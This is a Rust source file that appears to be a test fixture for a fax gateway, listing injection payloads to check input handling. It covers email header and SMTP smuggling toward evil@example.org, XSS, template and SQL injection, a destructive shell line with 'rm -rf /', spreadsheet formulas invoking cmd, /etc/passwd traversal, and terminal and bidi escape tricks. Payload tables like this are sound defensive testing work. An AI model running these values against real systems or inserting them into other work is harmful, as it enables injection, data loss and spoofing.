//! What is tried: a line for each payload.

/// Something that is words to us and an order to someone else.
#[derive(Debug, Clone)]
pub struct Payload {
    pub name: &'static str,
    /// As it comes over a line or stands in a file's name; not always UTF-8.
    pub bytes: Vec<u8>,
}

impl Payload {
    /// As intake makes text of it.
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.bytes).into_owned()
    }

    /// As far as a file system takes it for a name. A hidden file is no fax yet, and stays where it is.
    pub fn file_name(&self) -> Vec<u8> {
        let taken = |byte: &u8| if matches!(byte, 0 | b'/') { b'_' } else { *byte };
        let shown: &[u8] = if self.bytes.starts_with(b".") { b"x" } else { b"" };
        shown.iter().copied().chain(self.bytes.iter().map(taken)).take(180).collect()
    }
}

/// What the template would give if it were filled.
pub const MULTIPLIED: &str = "50337";

/// Whom no mail may reach.
pub const EVIL: &str = "evil@example.org";

/// The first one is harmless: the others are compared with it.
const TABLE: &[(&str, &str)] = &[
    ("harmless", "ACME LTD"),
    // headers
    ("CRLF and a header", "A\r\nBcc: evil@example.org\r\nX-Injected: yes"),
    ("LF and a header", "A\nBcc: evil@example.org"),
    ("CR and a header", "A\rBcc: evil@example.org"),
    ("an empty line and a body", "A\r\n\r\n<html><body>new body"),
    ("encoded-word Q with a line end", "=?utf-8?Q?A=0D=0ABcc:_evil@example.org?="),
    ("encoded-word B with a line end", "=?utf-8?B?QQ0KQmNjOiBldmlsQGV4YW1wbGUub3Jn?="),
    ("addresses", "a@b.example, evil@example.org; <e@f.example>"),
    ("a boundary", "--=_m_boundary\r\nContent-Type: text/html\r\n\r\n<b>"),
    ("percent-coded line end", "%0d%0aBcc:%20evil@example.org"),
    // SMTP
    (
        "end of data and a mail",
        "A\r\n.\r\nMAIL FROM:<evil@example.org>\r\nRCPT TO:<evil@example.org>\r\nDATA\r\n",
    ),
    ("bare end of data", "A\n.\nMAIL FROM:<evil@example.org>\nRCPT TO:<evil@example.org>"),
    ("mixed end of data", "A\r\n.\nRCPT TO:<evil@example.org>\r.\r"),
    ("path arguments", "x> SIZE=1 ORCPT=rfc822;evil@example.org <y"),
    // HTML, templates, JSON, metrics, shells
    ("script", "<script>alert(1)</script>"),
    ("out of an attribute", "\"><img src=x onerror=alert(1)>"),
    ("into an attribute", "' onmouseover='alert(1)"),
    ("closing tags", "</title></textarea></select></td></table><h1>"),
    ("address of a script", "javascript:alert(1)//"),
    ("entities", "&lt;b&gt; &#x3c;i&#x3e; &amp;"),
    ("template", "{{ 7191*7 }} {% include 'layout.html' %}"),
    ("out of JSON", "\",\"evil\":\"1\\"),
    ("out of a metric's label", "a\"} 1\nfaxgate_evil{b=\"1"),
    ("shell", "$(reboot) `id` | rm -rf / & ;"),
    ("SQL", "'); DROP TABLE faxes; --"),
    // spreadsheets
    ("formula =", "=cmd|' /C calc'!A0"),
    ("formula +", "+1+cmd|' /C calc'!A0"),
    ("formula -", "-1+cmd|' /C calc'!A0"),
    ("formula @", "@SUM(1+1)"),
    ("formula behind a tab", "\t=1+1"),
    ("formula behind a CR", "\r=1+1"),
    ("formula in full width", "\u{ff1d}1+1"),
    ("out of a cell", "\",=1+1\r\n=2+2,\""),
    // paths
    ("path upwards", "../../../../etc/passwd"),
    ("path upwards, Windows", "..\\..\\windows\\system32.exe"),
    ("drive", "C:\\Windows\\x.exe"),
    ("absolute path", "/etc/cron.d/x"),
    ("device", "CON"),
    ("an option", "--output=/etc/passwd"),
    ("hidden", ".htaccess"),
    // terminals and eyes
    ("NUL", "A\0B"),
    ("ESC", "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}]52;c;ZXZpbA==\u{7}"),
    ("C1", "\u{9b}2J\u{9d}0;owned\u{9c}\u{85}x"),
    ("backspaces", "OK\u{8}\u{8}\u{7f}\rNO"),
    ("bidi", "\u{202e}fdp.exe\u{202c}\u{2066}x\u{2069}\u{200f}\u{61c}"),
    ("line separators", "A\u{2028}B\u{2029}C\u{85}D\u{b}E\u{c}F"),
    ("invisible", "\u{feff}\u{200b}\u{ad}\u{e0041}"),
];

/// All payloads, the harmless one first.
pub fn payloads() -> Vec<Payload> {
    let mut all: Vec<Payload> =
        TABLE.iter().map(|(name, text)| Payload { name, bytes: text.as_bytes().to_vec() }).collect();
    for (name, bytes) in [
        ("long", vec![b'W'; 5_000]),
        ("long, Chinese", "長".repeat(5_000).into_bytes()),
        ("many tags", "<b>".repeat(1_500).into_bytes()),
        ("Big5", b"\xa5\xce\xb3\x5c\xbd\xd0".to_vec()),
        ("half a surrogate", b"A\xed\xa0\x80\xed\xb0\x80B".to_vec()),
        ("every byte", (0u8..=255).collect()),
        ("every Latin character", (0u8..=255).map(char::from).collect::<String>().into_bytes()),
    ] {
        all.push(Payload { name, bytes });
    }
    all
}
